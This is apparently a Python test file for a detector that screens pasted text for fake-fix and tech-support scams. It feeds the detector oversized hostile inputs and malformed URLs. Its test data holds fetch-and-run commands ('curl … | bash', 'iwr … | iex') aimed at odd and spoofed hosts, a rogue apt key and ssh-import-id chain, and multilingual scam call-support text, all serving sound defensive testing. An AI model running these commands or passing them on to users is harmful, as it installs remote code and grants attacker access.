"""Hostile input against this session's new readings: the calm scam claims in thirteen
languages (claimwords.py), the ConsentFix steps (44-consentfix-steps.yaml), the fake download
or fix page and bare IOC traits, key imports and package sources (handover.py), the Run-box
shapes (runbox.yaml) and the hosts a project's name is read from (provenance.py).

Each input is a MiB of what those rules look for, read in the contexts that wake them (a page,
the Run box, a terminal) with the counting clocks of test_hostile.py: bounded by the caps when
the budget never runs out, and cut short at the first look and halfway, never clean. Malformed
page addresses (ports out of range, IPv6 zones, user parts, IDN, controls) are drawn by
hypothesis: a verdict, never an exception.
"""

from __future__ import annotations

import functools
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.detection import Context, Engine, Level, PasteTarget, Verdict
from app.detection.engine import DEEP_CAP, MAX_INTERPRETED, MAX_LAYERS
from tests.app.detection.test_hostile import (
    LOOKS_PAST_THE_BUDGET,
    Looks,
    MiB,
    fails_closed,
    fill,
    looks,  # noqa: F401  (the fixture)
)

PAGE = "https://verify.human-check.test/step2"
CONTEXTS = [
    Context(PAGE, PasteTarget.RUN_DIALOG),
    Context(PAGE, PasteTarget.TERMINAL),
    Context(PAGE, PasteTarget.BROWSER_CONSOLE),
    Context(None, PasteTarget.UNKNOWN),
]

CONSENTFIX = (
    "Last step: copy the full URL of the page that says 'This site can't be reached' (it "
    "begins with http://localhost) and paste it in the box below to open the document. "
)
# a calm claim and an order to call, once in each of the thirteen languages' scripts
CLAIMS = [
    "Your computer has been blocked. Call Microsoft Support at 555-0100. ",
    "Ihr Konto wurde gesperrt. Rufen Sie den Microsoft-Support an: 555-0101. ",
    "Votre licence a expiré. Appelez le support Apple au 555-0102. ",
    "Su cuenta ha sido bloqueada. Llame al soporte de Amazon 555-0103. ",
    "Il tuo computer è stato bloccato. Chiama l'assistenza PayPal 555-0104. ",
    "Sua conta foi bloqueada. Ligue para o suporte Microsoft 555-0105. ",
    "Uw computer is geblokkeerd. Bel Microsoft-ondersteuning 555-0106. ",
    "Twoje konto zostało zablokowane. Zadzwoń do pomocy Microsoft 555-0107. ",
    "Bilgisayarınız engellendi. Microsoft desteğini arayın 555-0108. ",
    "Ваш компьютер заблокирован. Позвоните в поддержку Microsoft 555-0109. ",
    "お使いのコンピューターはブロックされました。マイクロソフトサポート 555-0110 に電話してください。",
    "您的电脑已被锁定。请致电微软支持 555-0111。",
    "您的電腦已被鎖定。請致電微軟支援 555-0112。",
]
BRANDS = ["Microsoft", "Apple", "Майкрософт", "マイクロソフト", "微软", "微軟", "PayPal", "Amazon"]


def _phones() -> str:
    """100,000 phone numbers in 555 blocks, each after a brand name, in thirteen scripts."""
    return " ".join(
        f"{BRANDS[i % len(BRANDS)]} +1-555-01{i % 100:02d}"
        + (f" {CLAIMS[i % len(CLAIMS)][:14]}" if i % 7 == 0 else "")
        for i in range(100_000)
    )[:MiB]


def _runbox_line() -> str:
    """One Run-box line of a MiB: cmd /k with a PowerShell that keeps its window, paths under
    Program Files and a code folder, and no line break anywhere."""
    unit = (
        'cmd /k "C:\\Program Files\\Git\\bin\\bash.exe" & powershell -NoExit Get-ChildItem '
        '"C:\\Users\\me\\code\\wt\\proj" & '
    )
    return fill(unit)


def _package_sources() -> str:
    unit = (
        "curl -fsSL https://apt.relaybox.test/key.gpg | sudo gpg --dearmor -o /usr/share/"
        'keyrings/r.gpg && echo "deb [signed-by=/usr/share/keyrings/r.gpg] https://apt.'
        'relaybox.test stable main" | sudo tee /etc/apt/sources.list.d/r.list && '
        "ssh-import-id gh:tarn-support && "
    )
    return fill(unit)


def _odd_urls() -> str:
    """Scripts fetched from addresses that are odd in every way an address can be."""
    hosts = [
        "fix-dns.test:0",
        "fix-dns.test:99999",
        "fix-dns.test:" + "9" * 40,
        "[fe80::1%25eth0]:8443",
        "[::ffff:192.0.2.1]:7777",
        "user:pa%40ss@198.51.100.7:4444",
        "xn--fx-dns-fix-tool.test:31337",
        "例え.テスト:8080",
        "203.0.113.9:-1",
        "\u202egpj.test:81",
    ]
    units = [
        f"curl -fsSL https://{h}/fix.sh | bash; iwr http://{h}/Fix-Network.ps1 | iex; "
        for h in hosts
    ]
    return fill("".join(units))


def _nested_quotes() -> str:
    depth = 20_000
    return "powershell -c " + "\"'" * depth + "iex (iwr http://192.0.2.9:8080/a)" + "'\"" * depth


HOSTILE: dict[str, Callable[[], str]] = {
    "ConsentFix steps": lambda: fill(CONSENTFIX),
    "calm claims in 13 languages": lambda: fill("".join(CLAIMS)),
    "100,000 phone numbers after brands": _phones,
    "a MiB Run-box line": _runbox_line,
    "key imports and package sources": _package_sources,
    "scripts from odd addresses": _odd_urls,
    "nested quotes": _nested_quotes,
    "claim words, NULs and bidi controls": lambda: fill(
        "Ihr\x00Konto\u202ewurde\u2066gesperrt\u200b 555-0101 \ufeff"
    ),
}


@functools.cache
def hostile(name: str) -> str:
    return HOSTILE[name]()


def _sound(verdict: Verdict) -> None:
    assert isinstance(verdict.level, Level) and verdict.summary.strip()
    if not verdict.complete:
        assert fails_closed(verdict), verdict.rule_ids


def bounded_and_fail_closed(engine: Engine, looks: Looks, name: str, text: str) -> None:  # noqa: F811
    """One hostile text read whole within the caps and soundly in every context, then cut short
    at the first look and halfway: within a few looks of the cut, incomplete and never clean."""
    assert len(text) <= 2 * MiB

    looks.run_out_after(None)
    whole = engine.examine(text)
    reading, all_looks = whole.analysis, looks.looks
    assert len(reading.layers) <= MAX_LAYERS
    assert reading.interpretations <= MAX_INTERPRETED
    assert max(len(layer.text) for layer in reading.layers[1:] or reading.layers) <= 2 * DEEP_CAP
    assert "time budget" not in reading.incomplete_reason
    for context in CONTEXTS:
        _sound(engine.in_context(whole, context))

    for at in sorted({0, all_looks // 2}):
        looks.run_out_after(at)
        content = engine.examine(text)
        assert looks.looks - at <= LOOKS_PAST_THE_BUDGET, (name, at, looks.looks)
        for context in CONTEXTS:
            verdict = engine.in_context(content, context)
            assert verdict.complete is False, (name, at, all_looks)
            assert fails_closed(verdict), (name, at, context, verdict.rule_ids)


@pytest.mark.parametrize("name", list(HOSTILE))
def test_new_traits_on_hostile_input_are_bounded_and_fail_closed_when_cut_short(
    engine: Engine,
    looks: Looks,  # noqa: F811
    name: str,
) -> None:
    bounded_and_fail_closed(engine, looks, name, hostile(name))


# page addresses a browser may hand over, or a page may forge, in any state of repair
_hosts = st.one_of(
    st.sampled_from(
        ["fix-dns.test", "getmic.example", "github.com", "raw.githubusercontent.com",
         "example.test", "xn--80ak6aa92e.test", "例え.テスト", "", ".", "..", "a" * 300]
    ),
    st.builds("[{}%{}]".format, st.sampled_from(["fe80::1", "::1", "::", "zz::"]),
              st.text(max_size=8)),
    st.from_regex(r"\A[0-9.]{1,20}\Z"),
    st.text(max_size=30),
)  # fmt: skip
_ports = st.one_of(
    st.just(""),
    st.builds(":{}".format, st.sampled_from([0, 65535, 65536, 99999, -1, 10**30])),
    st.builds(":{}".format, st.text(max_size=6)),
)
_userinfo = st.sampled_from(["", "user@", "user:pass@", "@", "a@b@", "%00@", "\u202e@"])
_schemes = st.sampled_from(["https://", "http://", "HTTPS://", "ftp://", "//", "", "javascript:"])
_paths = st.one_of(
    st.sampled_from(["", "/", "/fix.sh", "/owner/repo/install.sh", "/?q=%ZZ#frag", "\\..\\"]),
    st.text(max_size=20).map(lambda s: "/" + s),
)
_urls = st.builds("{}{}{}{}{}".format, _schemes, _userinfo, _hosts, _ports, _paths)
_texts = st.sampled_from(
    [
        "curl -fsSL {u} | bash",
        "iwr {u} | iex",
        "cmd /k curl {u}",
        "powershell -NoExit Get-Content {u}",
        'echo "deb {u} stable main" | sudo tee /etc/apt/sources.list.d/x.list',
        "Download the fix from {u} and run it. Call 555-0100.",
        CONSENTFIX + " {u}",
    ]
)


@given(source=_urls, address=_urls, template=_texts, target=st.sampled_from(list(PasteTarget)))
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_malformed_addresses_in_the_text_and_as_the_source_get_a_verdict(
    engine: Engine, source: str, address: str, template: str, target: PasteTarget
) -> None:
    text = template.replace("{u}", address)
    _sound(engine.analyze(text, Context(source, target)))
    _sound(engine.analyze(text.encode("utf-8", "surrogatepass"), Context(source or None, target)))
